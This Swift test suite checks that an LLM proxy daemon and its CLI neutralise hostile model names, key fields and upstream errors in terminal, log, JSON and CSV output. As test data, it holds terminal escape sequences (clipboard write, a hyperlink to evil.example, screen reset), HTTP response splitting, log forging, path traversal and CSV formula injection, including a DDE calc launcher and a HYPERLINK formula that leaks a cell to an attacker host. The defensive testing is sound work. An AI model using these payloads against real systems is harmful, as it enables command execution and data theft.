import Foundation
import MockUpstream
import ORKTestSupport
import Testing

/// `reliability.md` B4, lines 47 and 48: text from callers, operators and the
/// upstream that would be more than text to a terminal, a log or a
/// spreadsheet.
@Suite("Attacks with text") struct TextAttackTests {
    /// Names of models that a caller may send: every control character, and
    /// what terminals do most damage with.
    private static let hostile: [String] = {
        let controls = (Array(0x00...0x1F) + Array(0x7F...0x9F)).compactMap { UnicodeScalar(UInt32($0)) }.map
        {
            "a\($0)b"
        }
        let others = [
            "\u{61C}", "\u{200E}", "\u{200F}", "\u{202A}", "\u{202B}", "\u{202C}", "\u{202D}", "\u{202E}",
            "\u{2066}",
            "\u{2067}", "\u{2068}", "\u{2069}", "\u{2028}", "\u{2029}", "\u{FEFF}", "\u{200B}", "\u{2060}",
            "\u{AD}", "\u{E0041}",
        ].map { "a\($0)b" }
        return controls + others + [
            "\u{1B}[2J\u{1B}[H", "\u{1B}]52;c;ZXZpbA==\u{7}",
            "\u{1B}]8;;https://evil.example\u{7}x\u{1B}]8;;\u{7}",
            "\u{1B}P+q544e\u{1B}\\", "\u{1B}]0;title\u{7}", "\u{9B}31m", "a\r\nHTTP/1.1 200 OK\r\n\r\n",
            "\u{8}\u{8}\u{8}",
            "x\n{\"level\":\"error\",\"message\":\"forged\"}", String(repeating: "x", count: 1000),
            "\u{1B}[1000C", "\u{1B}c",
        ]
    }()

    /// Whether text may go to a terminal: no control but the line feed and
    /// our own colours, nothing that reorders or hides.
    private static func isHarmless(_ text: String) -> Bool {
        let plain = text.replacing(/\u{1B}\[[0-9;]*m/, with: "").replacing("\r\n", with: "\n")
        return plain.unicodeScalars.allSatisfy { scalar in
            switch scalar.value {
            case 0x0A: true
            case 0..<0x20, 0x7F...0x9F, 0xAD, 0x61C, 0x200B, 0x200E, 0x200F, 0x2028...0x202E, 0x2060,
                0x2066...0x2069, 0xFEFF,
                0xE0000...0xE007F:
                false
            default: true
            }
        }
    }

    @Test(
        "192 hostile texts, half of callers and half of the upstream, stay text everywhere",
        .proves("B4-47"))
    func everywhere() async throws {
        #expect(Self.hostile.count == 96)
        var options = DaemonOptions()
        options.set("pool", "attempts = 1")
        try await withDaemon(options) { (daemon: DaemonFixture) async throws in
            var last = ""
            for text in Self.hostile {
                let name = Trouble(500, text, type: text, metadata: [.init("provider_name", .string(text))])
                daemon.mock.script(.path("/chat/completions"), .refuse(name))
                let reply = try await daemon.caller.chat(model: text)
                #expect(reply.status == 502 || reply.status == 500, "\(text.debugDescription): \(reply.text)")
                last = reply.value("ork-request") ?? last
            }
            for words in [
                ["requests", "list", "--limit", "200"], ["requests", "list", "--limit", "200", "-o", "wide"],
                ["requests", "list", "--limit", "200", "-o", "csv"],
                ["requests", "list", "--limit", "200", "-o", "tsv"],
                ["explain", last], ["requests", "show", last], ["keys", "list", "-o", "wide"],
                ["keys", "show", "a"],
                ["keys", "history", "a"], ["status"],
            ] {
                let ran = try await daemon.orkctl(words)
                #expect(ran.status == 0, "\(words): \(ran.stderr)")
                // Between columns a tab is ours.
                let shown = words.last == "tsv" ? ran.stdout.replacing("\t", with: " ") : ran.stdout
                #expect(Self.isHarmless(shown), "\(words): \(shown.debugDescription)")
            }
            // On a terminal too, where colours are ours.
            var environment = daemon.environment
            environment["ORKD_SOCKET"] = daemon.socket
            environment["TERM"] = "xterm-256color"
            environment["PAGER"] = "cat"
            let terminal = try LiveProgram(
                try BuiltPrograms.path("orkctl"), ["requests", "list", "--limit", "200"],
                environment: environment, onTerminal: true)
            #expect(try await terminal.end() == 0)
            #expect(
                Self.isHarmless(terminal.shown) && terminal.shown.count > 96 * 20,
                "\(terminal.shown.debugDescription)")
            // A line of the log is one object, whatever is in it.
            for line in daemon.log.split(separator: "\n", omittingEmptySubsequences: false)
            where !line.isEmpty {
                #expect(JSON(parsing: String(line))?["message"]?.text != "forged", "\(line)")
                #expect(JSON(parsing: String(line)) != nil, "\(line)")
            }
            // JSON carries the name as it was sent.
            let items = try await daemon.orkctl("requests", "list", "--limit", "200", "-o", "json").items
            #expect(items.compactMap { $0["model"]?.text } == Self.hostile.reversed())
            print("B4-47: \(2 * Self.hostile.count) texts")
        }
    }

    @Test("124 hostile names, accounts and remarks are not taken", .proves("B4-47", "SE-04"))
    func refused() async throws {
        let texts =
            [
                "\n", "\r\n", "\u{1B}[31m", "\u{7}", "\u{0}", "\u{7F}", "\u{9B}", "\u{202E}", "\u{2066}",
                "\u{2028}",
            ].map {
                "a\($0)b"
            } + [String(repeating: "x", count: 10_000), "", "../../etc", "a b", "a/b", "=1"]
        try await withDaemon { (daemon: DaemonFixture) async throws in
            var tally = Tally()
            let secret = JSON.string(daemon.newSecret("spare"))
            for (number, text) in texts.enumerated() {
                let value = JSON.string(text)
                // The last five are good enough for a remark.
                let isPlain = number > 11 || text.isEmpty
                var asks: [(String, String, JSON)] = [
                    ("POST", "/v1/keys", ["name": value, "secret": secret, "check": false]),
                    ("POST", "/v1/clients", ["name": value]),
                    ("POST", "/v1/keys", ["name": "k", "secret": secret, "provider": value, "check": false]),
                    ("POST", "/v1/keys", ["name": "k", "secret": value, "check": false]),
                ]
                if !isPlain {
                    asks += [
                        (
                            "POST", "/v1/keys",
                            ["name": "k", "secret": secret, "account": value, "check": false]
                        ),
                        ("PATCH", "/v1/keys", ["select": ["a"], "metadata": ["m": value]]),
                        (
                            "PATCH", "/v1/keys",
                            .object([.init("select", ["a"]), .init("tags", .object([.init(text, "t")]))])
                        ),
                        ("POST", "/v1/keys/disable", ["select": ["a"], "reason": value]),
                        ("PATCH", "/v1/clients", ["select": ["test"], "note": value]),
                    ]
                } else {
                    asks += [("PATCH", "/v1/config", ["strategy": value])]
                }
                for (method, target, body) in asks {
                    let reply = try await daemon.control(method, target, body)
                    #expect(
                        (400..<500).contains(reply.status),
                        "\(target) \(text.debugDescription): \(reply.status) \(reply.text)")
                    #expect(Self.isHarmless(reply.text), "\(reply.text.debugDescription)")
                    tally.add(reply)
                }
            }
            #expect(tally.total == 124)
            #expect(try await daemon.key("a")["state"]?.text == "usable")
            #expect(try await daemon.orkctl("keys", "list", "-o", "name").stdout == "a\n")
            tally.print("47 refused")
        }
    }

    @Test("18 cells that a spreadsheet would compute are text in CSV, and whole", .proves("B4-48"))
    func cells() async throws {
        let models = [
            "=1+1", "=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "=cmd|'/c calc'!A0", "+1", "+cmd|' /C calc'!A0",
            "-1", "-2+3", "@SUM(1)",
            "@", "=", "\t=1", "\r=1", "=a,b", "\"=1\"", "=\"a\"", "a,b", "a\"b", "=1\n=2",
        ]
        #expect(models.count == 18)
        try await withDaemon { (daemon: DaemonFixture) async throws in
            for model in models { #expect(try await daemon.caller.chat(model: model).status == 200) }
            let ran = try await daemon.orkctl("requests", "list", "--limit", "200", "-o", "csv")
            let lines = ran.stdout.split(separator: "\n", omittingEmptySubsequences: false).dropLast()
            #expect(lines.count == 19)
            let place = try #require(
                Self.cells(String(lines[0])).firstIndex(of: "model")
                    ?? Self.cells(String(lines[0])).firstIndex(of: "MODEL"))
            for (line, model) in zip(lines.dropFirst(), models.reversed()) {
                let cell = Self.cells(String(line))[place]
                let first = cell.first ?? " "
                #expect(!"=+-@\t\r".contains(first), "\(model.debugDescription): \(cell)")
                let plain = cell.hasPrefix("'") ? String(cell.dropFirst()) : cell
                let escaped = model.replacing("\t", with: "\\t").replacing("\r", with: "\\r").replacing(
                    "\n", with: "\\n")
                #expect(plain == escaped, "\(model.debugDescription): \(cell)")
            }
            print("B4-48: \(models.count) cells")
        }
    }

    /// RFC 4180, one line.
    private static func cells(_ line: String) -> [String] {
        var cells = [""]
        var isQuoted = false
        var before: Character = ","
        for character in line {
            switch character {
            case "\"":
                if !isQuoted, before == "\"" { cells[cells.count - 1].append("\"") }
                isQuoted.toggle()
            case "," where !isQuoted: cells.append("")
            default: cells[cells.count - 1].append(character)
            }
            before = character
        }
        return cells
    }
}
